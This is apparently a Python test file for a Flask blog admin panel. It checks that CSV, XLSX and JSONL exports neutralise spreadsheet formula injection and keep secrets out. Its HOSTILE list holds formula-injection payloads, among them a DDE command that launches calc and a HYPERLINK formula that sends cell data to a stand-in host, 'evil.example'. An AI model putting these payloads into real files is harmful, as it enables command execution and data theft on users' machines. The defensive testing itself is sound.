"""Cells that a spreadsheet would run: they leave the panel as text, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flask_lback.admin.transfer.values import guarded, unguarded
from tests.admin.blog import Blog, make_blog

EXPORT = "/admin/blog/post/export/"
HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\twith a tab",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1',
    '"=1+1"',
    "'=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=IMPORTXML(CONCAT(A1),1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
]
#: What another separator than ours would make a cell of.
BEHIND = ["x;=1+1;", "x\t=1+1\t", "x\n=1+1\n", "x;\r\n;+1", "x; -1"]
HARMLESS = ["1+1", "a=b", "https://example.org/?a=1", "maya@example.org", "3-2", "'quoted'", "yes"]


@pytest.fixture
def blog(tmp_path: Path) -> Iterator[Blog]:
    made = make_blog(f"sqlite:///{tmp_path}/blog.sqlite")
    made.add_superuser()
    yield made
    with made.app.app_context():
        made.db.engine.dispose()


def fill(blog: Blog, texts: list[str]) -> None:
    for number, text in enumerate(texts):
        blog.add_post(text, author="ada", slug=f"s-{number}", reads=-number)


def cells_of(blog: Blog, format: str = "csv") -> bytes:
    path = f"{EXPORT}?format={format}&o=-reads"
    content: bytes = blog.panel("root").get(path, buffered=True).data
    return content


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_ad_6_no_cell_of_a_csv_file_begins_as_a_formula(blog: Blog, delimiter: str) -> None:
    fill(blog, HOSTILE + BEHIND)
    text = cells_of(blog).decode("utf-8-sig")
    # As a spreadsheet reads it, with its own separator too; quotes may be taken for text.
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for part in "\n".join(row).splitlines():
            shown = part.strip(' \t\r\n"\u00a0\ufeff')
            is_number = shown.removeprefix("-").isdecimal()
            assert is_number or not shown.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")), part


@given(st.text("=+-@;'\"\t\r\n a,\ufeff", max_size=12))
def test_ad_6_whatever_a_text_is_it_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_ad_6_the_text_stands_behind_an_apostrophe_and_nothing_of_it_is_lost(blog: Blog) -> None:
    fill(blog, HOSTILE)
    rows = csv.DictReader(io.StringIO(cells_of(blog).decode("utf-8-sig"), newline=""))
    titles = [row["title"] for row in rows]
    assert all(title.startswith("'") for title in titles)
    assert [unguarded(title) for title in titles] == HOSTILE


def test_ad_6_numbers_and_harmless_texts_are_unchanged(blog: Blog) -> None:
    fill(blog, HARMLESS)
    rows = list(csv.DictReader(io.StringIO(cells_of(blog).decode("utf-8-sig"))))
    assert [row["title"] for row in rows] == HARMLESS
    assert [row["reads"] for row in rows] == [str(-number) for number in range(len(HARMLESS))]


def test_ad_6_a_workbook_has_texts_and_no_formula_and_no_link(blog: Blog) -> None:
    fill(blog, HOSTILE)
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(cells_of(blog, "xlsx"))) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
        assert not [name for name in book.namelist() if "rels" in name and "sheet1" in name]
    assert sheet.find(f".//{space}f") is None
    assert sheet.find(f".//{space}hyperlink") is None
    rows = list(sheet.iter(f"{space}row"))[1:]
    assert len(rows) == len(HOSTILE)
    for number, row in enumerate(rows):
        title, reads = row[1], row[5]
        assert title.get("t") == "inlineStr"
        assert "".join(title.itertext()).lstrip().startswith("'")
        assert (reads.get("t"), "".join(reads.itertext())) in (
            (None, str(-number)),
            ("n", str(-number)),
        )


def test_ad_6_programs_get_the_text_as_it_is(blog: Blog) -> None:
    fill(blog, HOSTILE)
    lines = cells_of(blog, "jsonl").decode().splitlines()
    assert [json.loads(line)["title"] for line in lines] == HOSTILE


@pytest.mark.parametrize("format", ["csv", "xlsx", "jsonl"])
def test_ad_6_related_names_are_guarded_and_no_secret_leaves(blog: Blog, format: str) -> None:
    with blog.app.app_context():
        tag = blog.Tag(name="=1+1")
        blog.db.session.add(tag)
        blog.db.session.commit()
    blog.add_post("plain", author="ada", preview_token="never-to-be-seen")
    content = cells_of(blog, format)
    assert b"never-to-be-seen" not in content
    assert b"argon2" not in content
    tags = blog.panel("root").get("/admin/blog/tag/export/", buffered=True).text
    assert "'=1+1" in tags
